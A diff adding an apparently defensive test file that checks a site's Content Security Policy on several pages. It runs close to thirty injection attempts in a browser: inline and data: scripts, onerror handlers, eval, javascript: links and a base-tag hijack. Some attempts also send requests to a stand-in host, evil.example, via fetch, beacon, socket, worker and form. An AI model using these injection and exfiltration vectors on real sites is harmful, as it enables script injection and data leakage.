@@ -1,0 +1,134 @@
+import { expect, inject, test } from 'vitest'
+import { visitor } from '../visitor.ts'
+
+/**
+ * What somebody does who found a way to write into a page. Each is refused at once by an exception or a report of the policy, or `struck` is called.
+ * They run from a timer, since what a debugger evaluates may do what a page may not.
+ */
+function attackPage(): Promise<readonly { readonly attempt: string; readonly outcome: string }[]> {
+  const add = <Name extends keyof HTMLElementTagNameMap>(
+    name: Name,
+    set: (element: HTMLElementTagNameMap[Name]) => void,
+  ) => {
+    const element = document.createElement(name)
+    set(element)
+    document.body.append(element)
+    return element
+  }
+  const strike = 'struck()'
+  const attempts: Readonly<Record<string, () => unknown>> = {
+    'inline script by text': () => add('script', (script) => script.append(strike)),
+    'inline script by property': () => add('script', (script) => void (script.text = strike)),
+    'script with a wrong nonce': () =>
+      add('script', (script) => {
+        script.nonce = 'AAAA'
+        script.append(strike)
+      }),
+    'script of another site': () =>
+      add('script', (script) => void (script.src = 'https://evil.example/x.js')),
+    'script from a data address': () =>
+      add('script', (script) => script.setAttribute('src', `data:text/javascript,${strike}`)),
+    'markup with a handler': () =>
+      add('div', (div) => void (div.innerHTML = `<img src="data:," onerror="${strike}">`)),
+    'markup written whole': () => document.write(`<script>${strike}</script>`),
+    'markup beside': () =>
+      document.body.insertAdjacentHTML('beforeend', `<img src="data:," onerror="${strike}">`),
+    'a handler as an attribute': () =>
+      add('button', (button) => button.setAttribute('onclick', strike)).click(),
+    'a document in a frame': () =>
+      add('iframe', (frame) => void (frame.srcdoc = `<script>parent.${strike}</script>`)),
+    'a page in a frame': () => add('iframe', (frame) => void (frame.src = 'https://evil.example/')),
+    eval: () => (window as unknown as Record<'eval', (text: string) => unknown>).eval(strike),
+    'a function of text': () => new Function(strike)(),
+    'a timer of text': () => setTimeout(strike),
+    'a module of data': () =>
+      import(/* @vite-ignore */ `data:text/javascript,window.${strike}`).catch((error: unknown) =>
+        Promise.reject(error),
+      ),
+    'a worker of another site': () => new Worker('https://evil.example/worker.js'),
+    'a style element': () =>
+      add('style', (style) => style.append('body { outline: 7px solid red }')),
+    'a style attribute': () =>
+      add('p', (paragraph) => paragraph.setAttribute('style', 'outline: 7px solid red')),
+    'a style sheet of another site': () =>
+      add('link', (link) => {
+        link.rel = 'stylesheet'
+        link.href = 'https://evil.example/x.css'
+      }),
+    'a picture of another site': () =>
+      add('img', (picture) => void (picture.src = 'https://evil.example/x.png')),
+    'a call to another site': () => fetch('https://evil.example/'),
+    'a beacon to another site': () => navigator.sendBeacon('https://evil.example/', 'x'),
+    'a socket to another site': () => new WebSocket('wss://evil.example/'),
+    'a form to another site': () =>
+      add('form', (form) => {
+        form.action = 'https://evil.example/'
+        form.method = 'post'
+      }).submit(),
+    'another base': () => add('base', (base) => void (base.href = 'https://evil.example/')),
+    'a plug-in': () => add('object', (plugin) => void (plugin.data = 'https://evil.example/x.swf')),
+    'a link that is a script': () =>
+      add('a', (link) => void (link.href = `javascript:${strike}`)).click(),
+    'a policy of their own': () =>
+      (
+        window as unknown as {
+          trustedTypes: { createPolicy(name: string, rules: object): unknown }
+        }
+      ).trustedTypes.createPolicy('evil', { createHTML: (text: string) => text }),
+  }
+
+  const tried = (attempt: string) =>
+    new Promise<string>((settle) => {
+      const done = (outcome: string) => {
+        removeEventListener('securitypolicyviolation', refused)
+        clearTimeout(patience)
+        settle(outcome)
+      }
+      const refused = (event: Event) =>
+        done(`refused by ${(event as SecurityPolicyViolationEvent).effectiveDirective}`)
+      const patience = setTimeout(() => done('nobody objected'), 5000)
+      addEventListener('securitypolicyviolation', refused)
+      Object.assign(window, { struck: () => done('STRUCK') })
+      setTimeout(() => {
+        try {
+          Promise.resolve(attempts[attempt]?.()).catch((error: unknown) =>
+            done(`threw ${(error as Error).name}`),
+          )
+        } catch (error) {
+          // The report of a policy comes beside the exception: the next attempt must not take it for its own.
+          setTimeout(() => done(`threw ${(error as Error).name}`), 50)
+        }
+      })
+    })
+  return Object.keys(attempts).reduce<Promise<{ attempt: string; outcome: string }[]>>(
+    async (before, attempt) => [...(await before), { attempt, outcome: await tried(attempt) }],
+    Promise.resolve([]),
+  )
+}
+
+test.each(['/', '/search?q=driver', '/login', '/nowhere', '/legal/privacy-policy'])(
+  'S-49 whoever can write into %s runs no script, sets no style and sends nothing away',
+  async (path) => {
+    const { page, close } = await visitor()
+    const away: string[] = []
+    // What the policy stops does not come as far as here.
+    await page.route(/evil\.example/, (route) => {
+      away.push(route.request().url())
+      return route.abort()
+    })
+    await page.goto(path)
+    const outcomes = await page.evaluate(attackPage)
+    expect(outcomes.length).toBeGreaterThan(25)
+    expect(outcomes.filter(({ outcome }) => !/^(refused|threw)/.test(outcome))).toEqual([])
+    expect(away).toEqual([])
+    expect(page.url()).toBe(inject('origin') + path)
+    await page.evaluate(() => document.querySelector('base')?.remove())
+    expect(
+      await page.evaluate(() => [
+        getComputedStyle(document.body).outlineWidth,
+        document.baseURI.startsWith(location.origin),
+      ]),
+    ).toEqual([expect.not.stringMatching('7px'), true])
+    await close()
+  },
+)
